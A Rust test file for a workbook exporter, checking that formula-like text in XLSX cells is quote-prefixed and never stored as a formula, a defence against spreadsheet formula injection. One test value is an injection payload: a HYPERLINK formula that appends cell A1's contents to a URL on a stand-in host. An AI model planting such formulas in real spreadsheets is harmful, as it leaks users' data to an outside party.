//! Formula-like text in the workbook, read back by calamine and through its XML parts: no cell
//! is a formula, and every formula-like text cell carries the quote prefix (headers named after
//! vocabulary terms too, end to end from a mutated copy of the data).

use std::collections::HashMap;
use std::io::Cursor;
use std::path::Path;

use alliance_export::filter::Selection;
use calamine::{Data, Reader};

mod xlsx;
use xlsx::{column, data_dir, dataset, elements, open, part, rows, workbook_bytes};

fn unescape(text: &str) -> String {
    let mut out = text
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"");
    for c in 0u8..0x20 {
        out = out.replace(&format!("_x{c:04X}_"), &char::from(c).to_string());
    }
    out.replace("&amp;", "&")
}

/// Every string cell of every sheet, in shared strings or inline (a workbook written row by
/// row): (sheet part, cell, text, whether it has the quote prefix).
fn string_cells(bytes: &[u8]) -> Vec<(String, String, String, bool)> {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).expect("a zip file");
    let shared = archive.by_name("xl/sharedStrings.xml").is_ok();
    let strings: Vec<String> = if shared {
        elements(&part(bytes, "xl/sharedStrings.xml"), "<si", "</si>")
            .into_iter()
            .map(|(_, si)| text_of(si))
            .collect()
    } else {
        Vec::new()
    };
    let styles = part(bytes, "xl/styles.xml");
    let cell_xfs = &styles[styles.find("<cellXfs").expect("cellXfs")..];
    let cell_xfs = &cell_xfs[..cell_xfs.find("</cellXfs>").expect("end")];
    let quoted: Vec<bool> = elements(cell_xfs, "<xf ", "</xf>")
        .into_iter()
        .map(|(tag, _)| tag.contains("quotePrefix=\"1\""))
        .collect();
    let mut out = Vec::new();
    for n in 1.. {
        let sheet = format!("xl/worksheets/sheet{n}.xml");
        if archive.by_name(&sheet).is_err() {
            break;
        }
        let xml = part(bytes, &sheet);
        for (tag, body) in elements(&xml, "<c ", "</c>") {
            let attr = |name: &str| {
                let start = tag.find(&format!(" {name}=\""))? + name.len() + 3;
                Some(tag[start..].split('"').next()?.to_owned())
            };
            let text = match attr("t").as_deref() {
                Some("s") => {
                    let index: usize = body
                        .trim_start_matches("<v>")
                        .trim_end_matches("</v>")
                        .parse()
                        .expect("a shared string index");
                    strings[index].clone()
                }
                Some("inlineStr") => text_of(body),
                Some("str") => panic!("{sheet}: a formula's string {tag}"),
                _ => continue,
            };
            let style: usize = attr("s").map_or(0, |s| s.parse().expect("a style index"));
            out.push((
                sheet.clone(),
                attr("r").expect("a cell reference"),
                text,
                quoted[style],
            ));
        }
    }
    out
}

/// The text of a string item (its runs' `<t>` joined).
fn text_of(item: &str) -> String {
    elements(item, "<t", "</t>")
        .into_iter()
        .map(|(_, t)| unescape(t))
        .collect()
}

/// `A1` for a zero-based row and column.
fn cell_name(row: u32, col: u32) -> String {
    let mut letters = Vec::new();
    let mut n = col + 1;
    while n > 0 {
        let rem = u8::try_from((n - 1) % 26).expect("a letter");
        letters.push(char::from(b'A' + rem));
        n = (n - 1) / 26;
    }
    letters.iter().rev().collect::<String>() + &(row + 1).to_string()
}

/// The characters that make a spreadsheet read text as a formula when they start it.
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Every text cell that calamine reads from any sheet and that starts like a formula has the
/// quote prefix in the file; returns those cells' sheets and texts.
fn assert_formula_like_text_is_quoted(bytes: &[u8]) -> Vec<(String, String)> {
    let quoted: HashMap<(String, String), bool> = string_cells(bytes)
        .into_iter()
        .map(|(sheet, cell, _, quoted)| ((sheet, cell), quoted))
        .collect();
    let mut book = open(bytes);
    let mut found = Vec::new();
    for (i, sheet) in book.sheet_names().into_iter().enumerate() {
        let part = format!("xl/worksheets/sheet{}.xml", i + 1);
        let range = book.worksheet_range(&sheet).expect("sheet");
        let (top, left) = range.start().expect("a used range");
        for (r, c, cell) in range.used_cells() {
            let Data::String(text) = cell else { continue };
            if !text.starts_with(TRIGGERS) {
                continue;
            }
            let name = cell_name(
                top + u32::try_from(r).expect("row"),
                left + u32::try_from(c).expect("col"),
            );
            assert_eq!(
                quoted.get(&(part.clone(), name.clone())),
                Some(&true),
                "{sheet}!{name}: {text:?} has no quote prefix"
            );
            found.push((sheet.clone(), text.clone()));
        }
    }
    found
}

/// A copy of the real dataset in a temporary folder, with `mutations` (file, from, to) made:
/// each `from` must be in its file.
fn mutated_copy(mutations: &[(&str, &str, &str)]) -> tempfile::TempDir {
    fn copy(from: &Path, to: &Path) {
        std::fs::create_dir_all(to).expect("create dir");
        for entry in std::fs::read_dir(from).expect("read dir") {
            let entry = entry.expect("dir entry");
            let target = to.join(entry.file_name());
            if entry.file_type().expect("file type").is_dir() {
                copy(&entry.path(), &target);
            } else {
                std::fs::copy(entry.path(), &target).expect("copy file");
            }
        }
    }
    let tmp = tempfile::tempdir().expect("temp dir");
    copy(&data_dir(), tmp.path());
    for (file, from, to) in mutations {
        let path = tmp.path().join(file);
        let text = std::fs::read_to_string(&path).expect("read");
        assert!(text.contains(from), "{file} no longer contains {from:?}");
        std::fs::write(&path, text.replacen(from, to, 1)).expect("write");
    }
    tmp
}

#[test]
fn every_text_cell_from_the_data_is_quote_prefixed_end_to_end() {
    // vocabulary names become the Summary's headers and the Conferences sheet's, conference
    // fields the About sheet's values
    let data = mutated_copy(&[
        (
            "vocabularies/pillars.toml",
            "name = \"Prevention\"",
            "name = \"=Prevention\"",
        ),
        (
            "vocabularies/labels.toml",
            "name = \"Findings\"",
            "name = \"+Findings\"",
        ),
        (
            "vocabularies/labels.toml",
            "name = \"Recommendations\"",
            "name = \"@Recommendations\"",
        ),
        (
            "vocabularies/addressees.toml",
            "name = \"Authorities\"",
            "name = \"-Authorities\"",
        ),
        ("vocabularies/session-kinds.toml", "name = \"", "name = \"="),
        (
            "vocabularies/figure-kinds.toml",
            "name = \"Participants\"",
            "name = \"@Participants\"",
        ),
        (
            "conferences/alliance-17/conference.toml",
            "title = \"Highlights",
            "title = \"-Highlights",
        ),
        (
            "conferences/alliance-17/conference.toml",
            "city = \"Vienna\"",
            "city = \"+Vienna\"",
        ),
    ]);
    // the outputs go outside the dataset: alliance-export refuses a folder inside it
    let out = tempfile::tempdir().expect("temp dir");
    let status = std::process::Command::new(env!("CARGO_BIN_EXE_alliance-export"))
        .arg(data.path())
        .arg("--out")
        .arg(out.path())
        .args(["--format", "xlsx", "--quiet"])
        .status()
        .expect("alliance-export runs");
    assert!(status.success(), "{status}");
    let bytes = std::fs::read(out.path().join("alliance.xlsx")).expect("the workbook");
    let found = assert_formula_like_text_is_quoted(&bytes);
    let has = |sheet: &str, text: &str| found.iter().any(|(s, t)| s == sheet && t == text);
    // headers of the Summary's tables, and values of the Recommendations sheet
    for text in ["=Prevention", "+Findings", "@Recommendations"] {
        assert!(has("Summary", text), "{text:?} in {found:?}");
        assert!(has("Recommendations", text), "{text:?} in {found:?}");
    }
    assert!(has("Recommendations", "-Authorities"), "{found:?}");
    // a header of the Conferences sheet named after a figure kind, and a conference's city
    assert!(has("Conferences", "@Participants"), "{found:?}");
    assert!(has("Conferences", "+Vienna"), "{found:?}");
    assert!(
        found
            .iter()
            .any(|(s, t)| s == "About" && t.starts_with("-Highlights")),
        "{found:?}"
    );
}

#[test]
fn formula_like_text_is_stored_as_text_with_the_quote_prefix() {
    let mut dataset = dataset();
    let attack = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")";
    dataset.recommendations[0].text = attack.to_owned();
    dataset.themes[0].name = "+1+1".to_owned();
    dataset.people[0].name = "@SUM(A1:A2)".to_owned();
    dataset.organizations[0].name = "-2+3".to_owned();
    dataset.sessions[1].title = "\t=1".to_owned();
    dataset.instruments[0].name = "\r=1".to_owned();
    dataset.people[1].name = "a = b, not a formula".to_owned();
    // headers of the Summary's tables
    dataset.pillars[0].name = "=Prevention".to_owned();
    dataset.vocabularies.labels[0].name = "-Recommendations".to_owned();
    let bytes = workbook_bytes(&dataset, Selection::default());

    let cells = string_cells(&bytes);
    let triggers = TRIGGERS;
    let mut seen = HashMap::new();
    for (sheet, cell, text, quoted) in &cells {
        assert_eq!(
            *quoted,
            text.starts_with(triggers),
            "{sheet} {cell}: {text:?} quote prefix {quoted}"
        );
        *seen.entry(text.as_str()).or_insert(0) += 1;
    }
    for text in [
        attack,
        "+1+1",
        "@SUM(A1:A2)",
        "-2+3",
        "\t=1",
        "\r=1",
        "=Prevention",
        "-Recommendations",
    ] {
        assert!(
            seen.contains_key(text),
            "{text:?} is in the workbook as text"
        );
    }

    // and a reader sees the exact text, never a formula
    let mut book = open(&bytes);
    let (header, rows) = rows(&mut book, "Recommendations");
    assert_eq!(column(&header, &rows[0], "Text"), attack);
    assert!(column(&header, &rows[0], "Themes").starts_with("+1+1; "));
    for sheet in book.sheet_names() {
        let formulas = book.worksheet_formula(&sheet).expect("formulas");
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "{sheet}"
        );
    }
}
